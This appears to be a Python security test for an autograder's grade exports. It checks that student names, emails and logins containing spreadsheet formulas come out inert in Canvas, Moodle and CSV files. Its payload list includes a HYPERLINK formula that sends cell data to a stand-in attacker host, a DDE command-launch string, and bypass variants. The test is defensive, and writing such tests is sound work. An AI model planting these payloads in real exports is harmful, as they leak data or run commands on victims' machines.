"""Row 37: formulas in names, which a spreadsheet would run."""

import csv
import io
import json
import shutil

from attack_kit import Attack
from elsewhere import course_beside

FORMULAS = (
    '=HYPERLINK("https://attack.invalid/?"&A1,"open")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
    "\r=1+1", "\n=1+1", " =1+1", '"=1+1', "'=1+1", "\uff1d1+1", "\u200b=1+1", "=1+1;=1+1", "%0A=1+1", "|calc",
)  # fmt: skip


def runs(cell):
    """Whether a spreadsheet takes a cell's text for a formula, with or without trimming it first."""
    bare = cell.strip().strip("\u200b\ufeff\"'")
    return not cell.startswith("'") and any(text[:1] in tuple("=+-@\t\r|") for text in (cell, bare))


def exported(arena):
    """Every export of a class with such names reads as text, with every name still in it."""
    from autograder.export import (
        canvas_file,
        chapter_grades,
        moodle_items,
        moodle_worksheets,
        plain_file,
        read_identities,
    )
    from autograder.nbg.results import ExerciseResult, Result, write_result

    project, chapter = course_beside(arena, "row37"), arena.chapter
    shutil.rmtree(project.course / "results")
    table = {}
    for number, formula in enumerate(FORMULAS):
        student = f"student-{number}" if number else "=1+1"
        fields = ("name", "email", "login", "sis_id", "section")
        table[student] = {"lms": "canvas", "id": str(number), **{field: formula for field in fields}}
        entries = {e.name: ExerciseResult(formula, e.points, e.points, sentence=formula) for e in chapter.exercises}
        write_result(project, Result(student, chapter.slug, exercises=entries, needs_person=[formula]))
    (project.course / "lms.json").write_text(json.dumps({"students": table}))
    grades, names = chapter_grades(project, chapter, list(table)), read_identities(project)
    made = [canvas_file([grades], names, True, {}), moodle_worksheets([grades], names), moodle_items([grades], names)]
    made += [plain_file([grades], names, each) for each in (True, False)]
    cells = 0
    for outcome in made:
        for text in outcome.texts.values():
            for row in csv.reader(io.StringIO(text)):
                for cell in row:
                    cells += 1
                    number = cell.replace(".", "", 1).lstrip("-").isdigit()
                    assert number or not runs(cell), repr(cell)
    assert cells > 500
    return f"{cells} cells harmless"


ATTACK = Attack(row=37, tries="export names, addresses and logins that are spreadsheet formulas", proof=exported)
